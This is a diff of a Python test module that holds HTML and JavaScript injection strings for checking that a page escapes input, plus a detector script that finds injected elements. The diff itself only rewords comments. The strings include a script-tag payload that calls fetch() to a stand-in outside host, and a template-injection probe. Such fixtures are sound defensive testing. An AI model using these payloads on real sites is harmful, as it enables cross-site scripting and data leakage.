@@ -1,6 +1,6 @@
-"""Texts and names that would act on a page which took them for HTML."""
+"""HTML and JavaScript injections: texts that a page must escape."""
 
-ELSEWHERE = "http://elsewhere.example"  # where a page that is not inert would send something
+ELSEWHERE = "http://elsewhere.example"  # host that injected code would contact
 RUN = f"document.documentElement.dataset.ran=1;fetch('{ELSEWHERE}/ran')"
 ATTACKS = {
     "script": f"<script>{RUN}</script>",
@@ -25,7 +25,7 @@ ATTACKS = {
     "template": "{{ 7 * 7 }} {% raw %}",
 }
 
-# JavaScript: what would be on a page if one of these texts, or a name, were taken for HTML.
+# JavaScript that returns the elements of a page that one of these attacks has created.
 INJECTED = """() => [...document.querySelectorAll("*")].filter((one) =>
   ["IFRAME", "OBJECT", "EMBED", "MATH", "FORM", "BASE"].includes(one.tagName)
   || (one.tagName === "IMG" && !new URL(one.src).pathname.includes("/static/"))
